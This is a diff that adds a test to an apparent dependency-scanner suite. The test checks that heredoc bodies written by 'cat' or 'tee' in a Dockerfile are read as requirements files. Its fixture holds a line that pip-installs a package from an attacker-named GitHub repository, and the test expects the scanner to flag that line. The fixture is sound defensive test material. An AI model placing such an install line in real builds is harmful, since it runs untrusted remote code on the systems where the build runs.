@@ -236,6 +236,25 @@ describe('requirements files named by the install commands of Dockerfiles, workf
     ]);
   });
 
+  // BuildKit's dispatchRun hands the heredoc to the shell as stdin of `cat` / `tee`, which write it whole to the file.
+  it('read the body a RUN writes to a file with cat or tee as the requirements file it is', async () => {
+    const dir = tree({
+      Dockerfile: [
+        'FROM python:3.12',
+        'WORKDIR /srv',
+        "RUN cat <<'EOF' > reqs.txt && pip install -r reqs.txt",
+        'flask>=2',
+        'EOF',
+        'RUN tee /opt/c.txt <<EOF >/dev/null',
+        'evil @ git+https://github.com/attacker/evil@main',
+        'EOF',
+        'RUN pip install -r /opt/c.txt',
+        '',
+      ].join('\n'),
+    });
+    expect(ids(await scanWith(dir, [pythonDepsStage]))).toEqual(['CPP010@Dockerfile:4', 'CPP014@Dockerfile:7']);
+  });
+
   it('read the named file as requirements even where another command names it by -c', async () => {
     const dir = tree({
       Dockerfile: 'FROM python:3.12\nRUN pip install -c deps.lst\nRUN pip install -r deps.lst\n',
